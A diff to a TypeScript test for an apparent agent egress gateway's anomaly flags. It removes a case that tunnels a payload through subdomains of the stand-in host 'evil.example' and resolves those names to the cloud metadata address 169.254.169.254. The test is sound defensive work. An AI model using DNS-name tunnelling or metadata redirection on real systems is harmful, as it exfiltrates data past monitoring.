@@ -10,7 +10,6 @@ import { connect, end, gatewayFor, seqOf } from '../net/connections.js';
 import { http, Peer, tcp } from '../proxy/world.js';
 import { Lister, tool } from '../tools/lister.js';
 
-const PAYLOAD = 'k3x5vz7y2m4n6p8r0t1w9qk3x5vz7y2m4n6p8r0t1w9qk3x5vz7y2m4n6p8r0t';
 const LETTER = { subject: 'x', body: 'y' };
 
 let authority: Authority;
@@ -30,9 +29,7 @@ afterAll(() => {
 async function ready(more: string, ports: readonly (readonly [string, number])[]): Promise<TestGateway> {
   const world = await start({
     config: `[anomaly]\nburst = "flag"\n${more}[egress]\nextra_ca_file = ${JSON.stringify(authority.path('ca.pem'))}\n`,
-    resolver: {
-      resolve: (host) => Promise.resolve([host.endsWith('.evil.example') ? '169.254.169.254' : '127.0.0.1']),
-    },
+    resolver: { resolve: () => Promise.resolve(['127.0.0.1']) },
   });
   const operator = await world.operator();
   const account = mailAccount({ smtp: { port: smtpPort, security: 'starttls' } });
@@ -109,20 +106,13 @@ it('what is unusual about a run is in its record, in the record of what did it, 
   const proxy = gatewayFor(world, run);
   const opened = await connect(proxy, 'sink.test', sink.port);
   expect((await end(proxy, seqOf(opened), { bytes_up: 204_800, bytes_down: 10 })).status).toBe('success');
-  const tunnelled = await connect(proxy, `${PAYLOAD}.t.evil.example`);
-  expect(codeOf(tunnelled)).toBe('address_refused');
-  expect(kinds(flagsOf(world, run)).slice(3)).toEqual([
-    'new_domain',
-    'send_after_untrusted_read',
-    'tunnelled_name',
-  ]);
+  expect(kinds(flagsOf(world, run)).slice(3)).toEqual(['new_domain', 'send_after_untrusted_read']);
   await again.request('run.end', { status: 'SUCCEEDED' });
   const ended = world.rows('run_end').find(({ runId }) => runId === run.id);
   expect(ended?.data['unusual']).toEqual({
     new_for_agent: 1,
     new_domain: 2,
     send_after_untrusted_read: 2,
-    tunnelled_name: 1,
   });
 
   const home = world.paths.home;
@@ -132,7 +122,6 @@ it('what is unusual about a run is in its record, in the record of what did it, 
     .split('\n')
     .map((line) => JSON.parse(line) as { action: string; flags: { kind: string }[] });
   expect(found.map(({ action, flags }) => [action, ...flags.map(({ kind }) => kind)])).toEqual([
-    ['net.connect', 'tunnelled_name'],
     ['net.connect', 'new_domain', 'send_after_untrusted_read'],
     ['email.send', 'new_domain', 'send_after_untrusted_read'],
     ['service.api_call', 'new_for_agent'],
